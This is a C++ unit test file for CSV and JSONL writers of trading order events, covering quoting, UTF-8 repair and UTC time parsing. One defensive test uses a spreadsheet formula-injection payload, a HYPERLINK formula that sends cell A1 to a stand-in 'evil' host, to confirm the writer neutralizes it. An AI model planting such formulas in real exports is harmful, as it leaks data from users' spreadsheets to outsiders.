#define CAF_SUITE report_orders_writers
#include "tests/support/unit_test.hpp"

#include <sstream>

#include <rapidjson/document.h>

#include "reporting/orders/journal_reader.hpp"
#include "reporting/orders/writers.hpp"

using namespace cwts;
using namespace cwts::report;

namespace {

order_event sample() {
  order_event e;
  e.type = order_event_type::rejected;
  e.event_time = timestamp_ns{1'796'594'400'123'456'789};
  e.clock_source = "system_realtime";
  e.node = "node-a";
  e.id.value = "s1-7";
  e.venue.value = "binance";
  e.sym = *symbol::parse("BTCUSDT");
  e.order_side = side::sell;
  e.limit_price = *price::parse("30000.5");
  e.quantity = *qty::parse("0.25");
  e.account.value = "main";
  e.strategy.value = "mm";
  e.initiator = "risk";
  e.rejected_by = "cwts";
  e.reject_rule = "max_qty_exceeded";
  e.text = "qty 0.25 > max \"0.1\", per order\r\nsecond line";
  e.journal = "/j/oms.sqlite";
  e.source = "rejects";
  e.seq = 3;
  return e;
}

// Splits one RFC 4180 record (quoted fields may hold commas, quotes, CRLF).
std::vector<std::string> parse_csv_record(const std::string& line) {
  std::vector<std::string> out(1);
  bool quoted = false;
  for (size_t i = 0; i < line.size(); ++i) {
    char c = line[i];
    if (quoted) {
      if (c == '"' && i + 1 < line.size() && line[i + 1] == '"')
        out.back() += '"', ++i;
      else if (c == '"')
        quoted = false;
      else
        out.back() += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      out.emplace_back();
    } else {
      out.back() += c;
    }
  }
  return out;
}

} // namespace

CAF_TEST(csv_quotes_only_fields_that_need_it_and_doubles_quotes) {
  CAF_CHECK_EQUAL(csv_field("plain"), "plain");
  CAF_CHECK_EQUAL(csv_field("a,b"), "\"a,b\"");
  CAF_CHECK_EQUAL(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  CAF_CHECK_EQUAL(csv_field("two\nlines"), "\"two\nlines\"");
  CAF_CHECK_EQUAL(csv_field("cr\r"), "\"cr\r\"");
  CAF_CHECK_EQUAL(csv_field(""), "");
}

CAF_TEST(csv_row_round_trips_through_an_rfc4180_parser_with_the_schema_first) {
  auto e = sample();
  auto header = parse_csv_record(csv_header());
  auto row = parse_csv_record(to_csv_row(e));
  CAF_REQUIRE_EQUAL(header.size(), row.size());
  CAF_CHECK_EQUAL(header.front(), "schema");
  CAF_CHECK_EQUAL(row.front(), "cwts.order_event.v1");
  auto col = [&](const std::string& name) {
    for (size_t i = 0; i < header.size(); ++i)
      if (header[i] == name)
        return row[i];
    CAF_FAIL("no column " << name);
    return std::string();
  };
  CAF_CHECK_EQUAL(col("text"), e.text);
  CAF_CHECK_EQUAL(col("event_type"), "rejected");
  CAF_CHECK_EQUAL(col("event_time"), "2026-12-06T22:00:00.123456789Z");
  CAF_CHECK_EQUAL(col("event_time_ns"), "1796594400123456789");
  CAF_CHECK_EQUAL(col("price"), "30000.50000000");
  CAF_CHECK_EQUAL(col("quantity"), "0.25000000");
  CAF_CHECK_EQUAL(col("side"), "SELL");
  CAF_CHECK_EQUAL(col("reject_rule"), "max_qty_exceeded");
  CAF_CHECK_EQUAL(col("venue_order_id"), ""); // 0: not numbered by the venue
  CAF_CHECK_EQUAL(col("fill_qty"), "");
}

// Review R1 M3: a text an outsider chose is never a formula in a spreadsheet.
CAF_TEST(csv_text_that_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote) {
  CAF_CHECK_EQUAL(csv_text_field("=HYPERLINK(\"http://evil/\"&A1,\"x\")"),
                  "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"");
  CAF_CHECK_EQUAL(csv_text_field("+1"), "'+1");
  CAF_CHECK_EQUAL(csv_text_field("-1"), "'-1");
  CAF_CHECK_EQUAL(csv_text_field("@SUM(A1)"), "'@SUM(A1)");
  CAF_CHECK_EQUAL(csv_text_field("\tx"), "'\tx");
  CAF_CHECK_EQUAL(csv_text_field("\rx"), "\"'\rx\"");
  CAF_CHECK_EQUAL(csv_text_field("a=b"), "a=b");
  CAF_CHECK_EQUAL(csv_text_field(""), "");
  auto e = sample();
  e.text = "=1+2";
  e.strategy.value = "@evil";
  e.id.value = "-7";
  auto header = parse_csv_record(csv_header());
  auto row = parse_csv_record(to_csv_row(e));
  CAF_REQUIRE_EQUAL(header.size(), row.size());
  for (size_t i = 0; i < header.size(); ++i) {
    if (header[i] == "text")
      CAF_CHECK_EQUAL(row[i], "'=1+2");
    if (header[i] == "strategy")
      CAF_CHECK_EQUAL(row[i], "'@evil");
    if (header[i] == "client_order_id")
      CAF_CHECK_EQUAL(row[i], "'-7");
    if (header[i] == "price")
      CAF_CHECK_EQUAL(row[i], "30000.50000000");
  }
}

// Review R1 L2: bytes that are not UTF-8 (a venue's text) become U+FFFD.
CAF_TEST(jsonl_replaces_invalid_utf8_so_every_line_is_valid_utf8) {
  auto e = sample();
  e.text = std::string("ok \xC3\xA9 bad \xFF end \xC3");
  auto line = to_json_line(e);
  rapidjson::Document d;
  d.Parse<rapidjson::kParseValidateEncodingFlag>(line.c_str(), line.size());
  CAF_REQUIRE(!d.HasParseError());
  CAF_CHECK_EQUAL(std::string(d["text"].GetString()),
                  std::string("ok \xC3\xA9 bad \xEF\xBF\xBD end \xEF\xBF\xBD"));
}

CAF_TEST(csv_file_is_header_then_crlf_records) {
  std::ostringstream out;
  write_csv(out, {sample(), sample()});
  auto text = out.str();
  CAF_CHECK_EQUAL(text.rfind(csv_header() + "\r\n", 0), 0u);
  // The text's own CRLF is inside quotes; three record ends outside them.
  size_t ends = 0;
  bool quoted = false;
  for (size_t i = 0; i + 1 < text.size(); ++i) {
    if (text[i] == '"')
      quoted = !quoted;
    else if (!quoted && text[i] == '\r' && text[i + 1] == '\n')
      ++ends;
  }
  CAF_CHECK_EQUAL(ends, 3u);
}

CAF_TEST(jsonl_lines_are_valid_json_with_escaped_text_and_integer_times) {
  auto e = sample();
  e.text += std::string("\x01 tab\t");
  std::ostringstream out;
  write_jsonl(out, {e});
  auto line = out.str();
  CAF_REQUIRE_EQUAL(std::count(line.begin(), line.end(), '\n'), 1);
  rapidjson::Document d;
  d.Parse(line.c_str(), line.size() - 1);
  CAF_REQUIRE(!d.HasParseError());
  CAF_CHECK_EQUAL(std::string(d["schema"].GetString()), "cwts.order_event.v1");
  CAF_CHECK_EQUAL(std::string(d["text"].GetString()), e.text);
  CAF_REQUIRE(d["event_time_ns"].IsInt64());
  CAF_CHECK_EQUAL(d["event_time_ns"].GetInt64(), e.event_time.ns);
  CAF_CHECK(d["venue_time_ns"].IsNull());
  CAF_CHECK_EQUAL(std::string(d["price"].GetString()), "30000.50000000");
}

CAF_TEST(utc_times_parse_in_every_documented_form_and_refuse_the_rest) {
  timestamp_ns t;
  std::string why;
  CAF_REQUIRE(parse_utc_time("2026-12-06", t, why));
  CAF_CHECK_EQUAL(t.ns, 1'796'515'200'000'000'000);
  CAF_REQUIRE(parse_utc_time("2026-12-06T22:00:00Z", t, why));
  CAF_CHECK_EQUAL(t.ns, 1'796'594'400'000'000'000);
  CAF_REQUIRE(parse_utc_time("2026-12-06T22:00:00.5Z", t, why));
  CAF_CHECK_EQUAL(t.ns, 1'796'594'400'500'000'000);
  CAF_REQUIRE(parse_utc_time("1796594400000000001", t, why));
  CAF_CHECK_EQUAL(t.ns, 1'796'594'400'000'000'001);
  CAF_REQUIRE(parse_utc_time("9223372036854775807", t, why));
  CAF_CHECK_EQUAL(t.ns, INT64_MAX);
  CAF_REQUIRE(parse_utc_time("2262-04-11T23:47:16.854775807Z", t, why));
  CAF_CHECK_EQUAL(t.ns, INT64_MAX);
  CAF_CHECK(!parse_utc_time("2600-01-01", t, why));
  CAF_CHECK(why.find("outside") != std::string::npos);
  CAF_CHECK_EQUAL(format_utc_time(timestamp_ns{1'796'594'400'500'000'000}),
                  "2026-12-06T22:00:00.500000000Z");
  for (const char* bad : {"", "yesterday", "2026-13-01", "2026-02-30", "2026-12-06T22:00:00",
                          "2026-12-06T22:00:00+01:00", "2026-12-06T24:00:00Z",
                          "2026-12-06T22:00:00.1234567891Z", "99999999999999999999",
                          // past INT64_MAX ns (19 digits), and years whose ns would wrap
                          "9999999999999999999", "9223372036854775808", "2600-01-01",
                          "2262-04-11T23:47:17Z", "9999-12-31T23:59:59.999999999Z", "0001-01-01"}) {
    CAF_CHECK(!parse_utc_time(bad, t, why));
    CAF_CHECK(!why.empty());
  }
}
